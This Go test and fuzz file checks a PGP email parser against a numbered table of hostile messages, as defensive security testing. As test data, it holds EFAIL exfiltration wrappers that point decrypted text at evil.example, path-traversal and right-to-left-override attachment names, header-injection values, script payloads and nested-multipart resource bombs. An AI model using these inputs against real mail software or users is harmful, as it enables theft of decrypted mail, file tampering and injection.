package mail

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"postern/internal/pgp"
)

// TestHostile holds the entries of the threat table (threats.md §3) that concern this package, by
// their numbers. want is what short says, or a part of it after "…".
func TestHostile(t *testing.T) {
	c := newCast(t)
	armor := c.seal(t, report, c.team, nil)
	mimeArmor := c.seal(t, part("text/plain", report), c.team, c.alice)
	attachment := func(name, body string) string {
		return "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n" + crlf(body)
	}
	tampered := []byte(armor)
	tampered[len(tampered)/2] ^= 1
	nested := report
	for range 3 {
		nested = c.seal(t, nested, c.team, nil)
	}
	deep := "Content-Type: text/plain\r\n\r\nx\r\n"
	for i := range 1000 {
		deep = mixed("multipart/mixed", fmt.Sprint("b", i), deep)
	}
	tiny := strings.Repeat("--b\r\n\r\nx\r\n", 100_000)

	for _, test := range []struct{ entry, raw, want string }{
		{"1 plain text", part("text/plain", report), `none/none/whole | text "The lantern explodes.\n"`},
		{"2 retired key", pgpMIME(c.seal(t, part("text/plain", report), c.retired, nil)), `retired/none/whole | text "The lantern explodes.\n"`},
		{"4 unknown key", pgpMIME(c.seal(t, report, c.stranger, nil)), `none/none/whole | unopened "message.pgp" !not-opened`},
		{"10 tampered", pgpMIME(string(tampered)), `…!not-opened`},
		{"11 truncated", pgpMIME(armor[:len(armor)/2]), `…!not-opened`},
		{"19 unknown signer", pgpMIME(c.seal(t, part("text/plain", report), c.team, c.stranger)), `current/unverifiable/whole | text "The lantern explodes.\n"`},
		{"22 two From", "From: c@x.example\r\n" + part("text/plain", report), `none/none/whole | text "The lantern explodes.\n" !twice !from`},
		{"23 one part signed", mixed("multipart/mixed", "m", signedMIME(c, t, part("text/plain", "signed\n"), c.alice), part("text/plain", "unsigned\n")),
			`none/valid-known/part | text "signed\n" | signature | text "unsigned\n" (none/none) !part-only`},
		{"23 text before", mixed("multipart/mixed", "m", part("text/plain", "unsigned\n"), signedMIME(c, t, part("text/plain", "signed\n"), c.alice)),
			`none/valid-known/part | text "unsigned\n" (none/none) | text "signed\n" | signature !part-only`},
		{"23 third part in multipart/signed", strings.Replace(signedMIME(c, t, part("text/plain", "signed\n"), c.alice), "\r\n--sig--", "\r\n--sig\r\n\r\nunsigned\r\n--sig--", 1),
			`none/valid-known/part | text "signed\n" | signature | text "unsigned" (none/none) !signature-form !part-only`},
		{"23 changed after signing", strings.Replace(signedMIME(c, t, part("text/plain", "signed\n"), c.alice), "signed\r\n", "changed\r\n", 1),
			`none/invalid/whole | text "changed\n" | signature`},
		{"24 EFAIL", mixed("multipart/mixed", "m", part("text/html", "<img src=\"http://evil.example/"), part("text/plain", armor), part("text/html", "\">")),
			`current/none/part | text "The lantern explodes.\n" | html "\">\n" (none/none) !part-only`},
		{"24 EFAIL around PGP/MIME", mixed("multipart/mixed", "m", part("text/html", "<a href=\"http://evil.example/"), pgpMIME(mimeArmor), part("text/html", "\">x</a>")),
			`current/valid-known/part | text "The lantern explodes.\n" | html "\">x\n" (none/none) !part-only`},
		{"26 text around a clear-signed one", part("text/plain", "before\n"+c.clearSign(t, "signed\n", c.alice)+"after\n"),
			`none/valid-known/part | text "before\n" (none/none) | text "signed\n" | text "after\n" (none/none) !part-only`},
		{"28 inline in text", part("text/plain", "hello\n\n"+armor+"\nbye\n"),
			`current/none/part | text "hello\n\n" (none/none) | text "The lantern explodes.\n" | text "\nbye\n" (none/none) !part-only`},
		{"29 inline twice in alternative", mixed("multipart/alternative", "a", part("text/plain", armor), part("text/html", "<pre>"+armor+"</pre>")),
			`…current/none/part | text "The lantern explodes.\n" | html* "-----BEGIN PGP MESSAGE-----`},
		{"30 encrypted files beside an encrypted body", mixed("multipart/mixed", "m", part("text/plain", armor), attachment("poc.py.gpg", armor), attachment("poc.py.gpg", armor)),
			`current/none/whole | text "The lantern explodes.\n" | attachment "poc.py" | attachment "poc (2).py"`},
		{"31 Exchange", mixed("multipart/mixed", "m", part("text/plain", "\n"), part("application/pgp-encrypted", "Version: 1\n"), part("application/octet-stream", mimeArmor)),
			`current/valid-known/whole | text "The lantern explodes.\n" +mixed-up`},
		{"32 text first", mixed("multipart/encrypted", "m", part("text/plain", "note\n"), part("application/octet-stream", mimeArmor)),
			`current/valid-known/part | text "note\n" (none/none) | text "The lantern explodes.\n" +structure !part-only`},
		{"32 one part", mixed("multipart/encrypted", "m", part("application/octet-stream", mimeArmor)), `current/valid-known/whole | text "The lantern explodes.\n" +structure`},
		{"32 three parts", mixed("multipart/encrypted", "m", part("application/pgp-encrypted", "Version: 1\n"), part("application/octet-stream", mimeArmor), part("text/plain", "footer\n")),
			`current/valid-known/part | text "The lantern explodes.\n" | text "footer\n" (none/none) +structure !part-only`},
		{"32 no armor", mixed("multipart/encrypted", "m", part("application/pgp-encrypted", "Version: 1\n"), attachment("x.bin", "nothing\n")),
			`none/none/whole | attachment "x.bin" !not-opened`},
		{"33 raw armor inside", pgpMIME(c.seal(t, armor, c.team, nil)), `current/none/whole | text "The lantern explodes.\n" +bare-armor`},
		{"34 encrypted three times", part("text/plain", nested), `current/none/whole | text "The lantern explodes.\n"`},
		{"34 encrypted four times", part("text/plain", c.seal(t, nested, c.team, nil)), `current/none/whole | unopened "message.pgp" !not-opened`},
		{"38 words", part("text/plain", "how do I send\n-----BEGIN PGP MESSAGE-----\nto you?\n"), `…none/none/whole | text "how do I send\n-----BEGIN PGP MESSAGE-----\nto you?\n"`},
		{"39 public key", part("text/plain", string(c.alice.Certificate().Armored())), `none/none/whole | key "key.asc"`},
		{"44 charsets lie", part("text/plain; charset=utf-7", "+ADw-b\n"), `none/none/whole | text "+ADw-b\n" +charset`},
		{"44 ISO-2022-KR", part("text/plain; charset=iso-2022-kr", "abc\n"), `none/none/whole | text "abc\n" +charset`},
		{"44 invalid UTF-8 and NUL", part("text/plain; charset=utf-8", "a\xffb\x00c\n"), `none/none/whole | text "a�b�c\n" +charset`},
		{"44 latin1", part("text/plain; charset=iso-8859-1", "\xf6l\n"), `none/none/whole | text "öl\n"`},
		{"44 shift_jis", part("text/plain; charset=\"Shift_JIS\"", "\x93\xfa\n"), `none/none/whole | text "日\n"`},
		{"45 base64 lies", "Content-Transfer-Encoding: base64\r\n" + part("text/plain", "QUJD!!RA"), `none/none/whole | text "ABCD" +transfer`},
		{"45 quoted-printable lies", "Content-Transfer-Encoding: quoted-printable\r\n" + part("text/plain", "a=ZZb=4"), `none/none/whole | text "a=ZZb=4" +transfer`},
		{"45 unknown encoding", "Content-Transfer-Encoding: x-none\r\n" + part("text/plain", "abc"), `none/none/whole | text "abc" +transfer`},
		{"45 empty boundary", mixed("multipart/mixed", "", part("text/plain", report)), `…!boundary`},
		{"45 no boundary", "Content-Type: multipart/mixed\r\n\r\n" + armor, `current/none/whole | text "The lantern explodes.\n" !boundary`},
		{"45 boundary of a regexp", mixed("multipart/mixed", "(.*)+[a]{9}$", part("text/plain", report)), `none/none/whole | text "The lantern explodes.\n"`},
		{"45 boundary is a prefix", mixed("multipart/mixed", "b", part("text/plain", "--bb\nx\n")), `none/none/whole | text "--bb\nx\n"`},
		{"45 deep", deep, `none/none/whole | attachment "file" !depth-limit`},
		{"45 no end", strings.TrimSuffix(mixed("multipart/mixed", "m", part("text/plain", report)), "--m--\r\n"), `none/none/whole | text "The lantern explodes.\n\n" +unclosed`},
		{"45 malformed type", "Content-Type: multipart/mixed; boundary=m; boundary=n; ;;=\r\n\r\n--m\r\n\r\n" + report + "\r\n--m--\r\n", `none/none/whole | text "The lantern explodes.\n"`},
		{"46 message/rfc822", mixed("multipart/mixed", "m", part("message/rfc822", "From: b@x.example\nSubject: fwd: \x1b[2J\n\nhello\n")), `none/none/whole | message "fwd_ _[2J.eml" | text "hello\n"`},
		{"21 a signed message, enclosed by another", part("message/rfc822", "From: Alice <alice@x.example>\n"+signedMIME(c, t, part("text/plain", "signed\n"), c.alice)),
			`none/valid-known/part | message "message.eml" (none/none) | text "signed\n" | signature !part-only`},
		{"46 external body", part("message/external-body; access-type=URL; URL=\"http://evil.example/\"", "x"), `none/none/whole | attachment "file" !external-body`},
		{"46 winmail.dat", mixed("multipart/mixed", "m", part(`application/ms-tnef; name="winmail.dat"`, "x")), `none/none/whole | attachment "winmail.dat" !winmail`},
		{"46 S/MIME", part(`application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m`, "x"), `none/none/whole | attachment "smime.p7m" !smime`},
		{"46 S/MIME signed", mixed(`multipart/signed; protocol="application/pkcs7-signature"`, "m", part("text/plain", report), part("application/pkcs7-signature", "x")), `none/none/whole | text "The lantern explodes.\n" | attachment "file" !smime`},
		{"47 path", attachment("../../etc/passwd", "x"), `none/none/whole | attachment "passwd"`},
		{"47 CON", attachment("con.txt", "x"), `none/none/whole | attachment "_con.txt"`},
		{"47 right to left", "Content-Type: text/x-y; name=\"=?utf-8?q?harmless=E2=80=AEfdp.exe?=\"\r\nContent-Disposition: attachment\r\n\r\nx", `none/none/whole | attachment "harmlessfdp.exe"`},
		{"47 4 KiB", attachment(strings.Repeat("a", 4096)+".txt", "x"), `none/none/whole | attachment "` + strings.Repeat("a", 116) + `.txt"`},
		{"47 backslash and empty", attachment(`c:\\x\\ .. `, "x"), `none/none/whole | attachment "file"`},
		{"48 active content", mixed("multipart/mixed", "m", part("image/svg+xml", "<svg onload=alert(1)>"), part("application/pdf", "%PDF")), `none/none/whole | attachment "file" | attachment "file (2)"`},
		{"48 html is text", part("text/html", "<script>alert(1)</script><p onclick=x>hi<style>p{}</style> <a href=\"http://evil.example/\">bank.example</a></p>"), `none/none/whole | html "hi bank.example <http://evil.example/>\n"`},
		{"header lines that are none", "this is no field\r\n: neither\r\n\x01: nor this\r\n" + part("text/plain", report), `none/none/whole | text "The lantern explodes.\n" +header-line`},
		{"signature around nothing", mixed(`multipart/signed; protocol="application/pgp-signature"`, "m", part("text/plain", report)), `none/none/whole | text "The lantern explodes.\n" !signature-form`},
		{"signature that is none", mixed(`multipart/signed; protocol="application/pgp-signature"`, "m", part("text/plain", report), part("application/pgp-signature", "x")), `none/unverifiable/whole | text "The lantern explodes.\n" | signature`},
		{"tiny parts", "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + tiny, `…!parts-limit`},
	} {
		t.Run(test.entry, func(t *testing.T) {
			start := cpuTime(t)
			m := c.read(t, outerHeader+test.raw)
			got := short(m)
			if want, part := strings.CutPrefix(test.want, "…"); part && !strings.Contains(got, want) || !part && got != test.want {
				t.Errorf("Read = %s\nwant   %s", truncate(got, 2000), test.want)
			}
			if took, limit := cpuTime(t)-start, 2*time.Second*slack; took > limit {
				t.Errorf("Read took %v of CPU, want under %v", took, limit)
			}
		})
	}
}

// TestHostileSizes measures entry 45's large forms: time, and memory beyond the message itself.
func TestHostileSizes(t *testing.T) {
	c := newCast(t)
	fill := func(unit string, n int) string { return strings.Repeat(unit, n/len(unit)) }
	const size = 24 << 20 / slack
	for name, raw := range map[string]string{
		"one line":              part("text/plain", "") + fill("x", size),
		"one base64 line":       "Content-Transfer-Encoding: base64\r\n" + part("application/x-y", "") + fill("AAAA", size),
		"one html line":         part("text/html", "") + fill("<a href=http://x/>", size),
		"html open":             part("text/html", "") + fill("<div><pre>", size),
		"long header":           "X: " + fill("y", size) + "\r\n\r\n",
		"folded header":         "X: " + fill("y\r\n ", size) + "\r\n\r\n",
		"many fields":           fill("X: y\r\n", size) + "\r\n",
		"boundary lookalikes":   "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + fill("--bx\r\n", size),
		"boundaries":            "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + fill("--b\r\n", size),
		"armor heads":           part("text/plain", "") + fill("-----BEGIN PGP MESSAGE-----\r\n", size),
		"armor signatures":      part("text/plain", "") + fill("-----BEGIN PGP SIGNATURE-----\r\n\r\nwsB=\r\n-----END PGP SIGNATURE-----\r\n", size),
		"armor keys":            part("text/plain", "") + fill(crlf(string(c.alice.Certificate().Armored())), size),
		"keys far apart":        part("text/plain", "") + strings.Repeat(crlf(string(c.alice.Certificate().Armored()))+fill("x y z\r\n", 1<<20/slack), 22),
		"quoted-printable":      "Content-Transfer-Encoding: quoted-printable\r\n" + part("text/plain", "") + fill("=\r\n", size),
		"words in the subject":  "Subject: " + fill("=?utf-8?q?=C3=B6?= ", 200<<10) + "\r\n\r\n",
		"references":            "References: " + fill("<a@b> ", 200<<10) + "\r\n\r\n",
		"addresses":             "Reply-To: " + fill("a@b.example, ", 200<<10) + "\r\n\r\n",
		"comments in addresses": "Reply-To: " + fill("((((", 200<<10) + "\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			raw := []byte(outerHeader + raw)
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := cpuTime(t)
			m, err := Read(context.Background(), raw, c.ring, noon, DefaultLimits)
			took := cpuTime(t) - start
			runtime.ReadMemStats(&after)
			if err != nil || m == nil {
				t.Fatalf("Read = %v", err)
			}
			t.Logf("%v, %d MiB allocated: %s", took, (after.TotalAlloc-before.TotalAlloc)>>20, truncate(short(m), 200))
			if limit := 2 * time.Second * slack; took > limit {
				t.Errorf("Read took %v of CPU, want under %v", took, limit)
			}
		})
	}
}

// cpuTime is what this process has used: the machine may be busy with others.
func cpuTime(t testing.TB) time.Duration {
	t.Helper()
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		t.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

func TestReadTooLarge(t *testing.T) {
	limits := DefaultLimits
	limits.Message = 1000
	raw := outerHeader + part("text/plain", strings.Repeat("x", 1000))
	m, err := Read(context.Background(), []byte(raw), pgp.Ring{}, noon, limits)
	if err != nil || len(m.Pieces) != 0 || !m.NeedsAttention() || m.Subject != "outer" {
		t.Errorf("Read = %s, %v", short(m), err)
	}
}

// TestBudgetIsOne opens many messages, each within its own limit.
func TestBudgetIsOne(t *testing.T) {
	c := newCast(t)
	limits := DefaultLimits
	limits.Opened = 100_000
	armor := c.seal(t, strings.Repeat("x", 30_000), c.team, nil)
	raw := outerHeader + part("text/plain", strings.Repeat(armor+"\n", 6))
	m, err := Read(context.Background(), []byte(raw), c.ring, noon, limits)
	if err != nil {
		t.Fatal(err)
	}
	var opened, kept int
	for _, p := range m.Pieces {
		switch p.Kind {
		case KindText:
			opened += int(p.Content.size)
		case KindUnopened:
			kept++
		}
	}
	if opened > 100_000 || opened < 30_000 || kept == 0 || !m.NeedsAttention() {
		t.Errorf("opened %d octets, kept %d messages closed: %s", opened, kept, truncate(short(m), 500))
	}
}

func TestSafeNameIsSafe(t *testing.T) {
	for name, want := range map[string]string{
		"a.txt": "a.txt", "/a/b.txt": "b.txt", "..": "", ".bashrc": "bashrc", "NUL": "_NUL", "com1.tar.gz": "_com1.tar.gz",
		"a\r\nb": "ab", "a\u202egpj.exe": "agpj.exe", "a:b*c?": "a_b_c_", "\xff": "_", "  x  ": "x", "a\u00a0b": "a b", "": "",
	} {
		if got := SafeName(name); got != want {
			t.Errorf("SafeName(%q) = %q, want %q", name, got, want)
		}
	}
}

func FuzzRead(f *testing.F) {
	c := newCast(f)
	armor := c.seal(f, report, c.team, c.alice)
	for _, seed := range []string{
		part("text/plain", report), part("text/plain", armor), pgpMIME(armor), pgpMIME(c.seal(f, part("text/plain", report), c.team, nil)),
		mixed("multipart/mixed", "m", part("text/plain", "\n"), part("application/pgp-encrypted", "Version: 1\n"), part("application/octet-stream", armor)),
		mixed("multipart/alternative", "a", part("text/plain", report), part("text/html", "<p>x</p>")),
		signedMIME(c, f, part("text/plain", report), c.alice), part("text/plain", c.clearSign(f, report, c.alice)),
		part("message/rfc822", "From: a@x.example\n\nx\n"), "Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n----\r\n",
		"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(armor)),
		// Of the hostile table, by entry.
		part("text/plain", "before\n"+c.clearSign(f, "signed\n", c.alice)+"after\n"),                                                             // 26
		mixed("multipart/mixed", "m", part("text/html", "<img src=\"http://evil.example/"), part("text/plain", armor), part("text/html", "\">")), // 24
		mixed("multipart/encrypted", "m", part("text/plain", "note\n"), part("application/octet-stream", armor)),                                 // 32
		pgpMIME(c.seal(f, armor, c.team, nil)), // 33, 34
		pgpMIME(c.seal(f, "Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\r\nFrom: b@x.example\r\nSubject: in\r\n\r\nx\r\n", c.team, nil)), // 35, 36
		part("text/plain", "> "+strings.ReplaceAll(armor, "\n", "\n> ")), part("text/plain", "-----BEGIN PGP MESSAGE-----\nto you?\n"),                        // 37, 38
		part("text/plain", string(c.alice.Certificate().Armored())), part("text/plain; charset=utf-7", "+ADw-b\xff\x00"), // 39, 44
		"Content-Transfer-Encoding: quoted-printable\r\n" + part("text/plain", "a=ZZb=4 \t=\r\n="), "Content-Type: multipart/mixed\r\n\r\n" + armor, // 45
		part("message/external-body; access-type=URL", "x"), part(`application/pkcs7-mime; name="../../x"`, "x"), // 46, 47
	} {
		f.Add([]byte(outerHeader + seed))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		limits := DefaultLimits
		limits.Text = 4096
		original := bytes.Clone(raw)
		m, err := Read(context.Background(), raw, c.ring, noon, limits)
		if err != nil {
			t.Fatalf("Read = %v", err)
		}
		if !bytes.Equal(raw, original) {
			t.Fatal("Read changed the original")
		}
		if len(m.Pieces) > limits.Parts+20 {
			t.Fatalf("%d pieces", len(m.Pieces))
		}
		for _, p := range m.Problems {
			if p.Code == ProblemInternal {
				t.Fatal("Read panicked inside")
			}
		}
		for _, p := range m.Pieces {
			if len(p.Text) > limits.Text || strings.ContainsAny(p.Text, "\x00\r\x1b") || strings.ToValidUTF8(p.Text, "") != p.Text {
				t.Fatalf("piece %s has unsafe text", p.Path)
			}
			if strings.ContainsAny(p.Label, "/\\\r\n\x00") || strings.HasPrefix(p.Label, ".") {
				t.Fatalf("label %q", p.Label)
			}
			if p.Kind == KindPrivateKey && (p.Text != "" || !p.Content.IsZero()) {
				t.Fatal("a private key was kept")
			}
		}
		limits.Held = 32 // read where it lies
		if long, err := Read(context.Background(), raw, c.ring, noon, limits); err != nil || len(long.Pieces) > limits.Parts+20 {
			t.Fatalf("Read without holding texts = %d pieces, %v", len(long.Pieces), err)
		} else if slices.ContainsFunc(long.Problems, func(p Finding) bool { return p.Code == ProblemInternal }) {
			t.Fatal("Read without holding texts panicked inside")
		}
		if _, err := ReadPosted(context.Background(), raw, c.ring, noon, limits); err != nil {
			t.Fatalf("ReadPosted = %v", err)
		}
	})
}

// FuzzHeaderValue tries to write a second field through each value of an Outer.
func FuzzHeaderValue(f *testing.F) {
	for _, s := range []string{"plain", "ö", "a\r\nBcc: b@c.example", "=?utf-8?q?x=0D=0A?=", "\"a\" <a@b.example>", " ", "a  b", strings.Repeat("x", 1200), "\u2028", "a\u0085b"} {
		f.Add(s, "Ada <ada@x.example>")
		f.Add("s", s)
	}
	f.Fuzz(func(t *testing.T, subject, address string) {
		o := sampleOuter()
		o.Subject, o.To = subject, address
		o.InReplyTo, o.References = subject, []string{address, subject}
		var b bytes.Buffer
		if err := WriteText(&b, o, "x"); err != nil {
			return
		}
		checkWire(t, b.Bytes())
		head, body := splitEntity(b.Bytes())
		if string(body) != "x\r\n" {
			t.Fatalf("body = %q", body)
		}
		h := parseHeader(head)
		known := "from to reply-to subject date message-id in-reply-to references auto-submitted mime-version content-type content-transfer-encoding "
		for _, field := range h.fields {
			if !strings.Contains(known, field.key+" ") || h.count(field.key) != 1 {
				t.Fatalf("field %q: %q", field.key, field.value)
			}
		}
		if got := h.interpret().Subject; got != strings.TrimSpace(subject) {
			t.Fatalf("Subject = %q, want %q", got, subject)
		}
		if got := h.interpret(); got.FromAddress != "security@team.example" {
			t.Fatalf("From = %q", got.From)
		}
	})
}
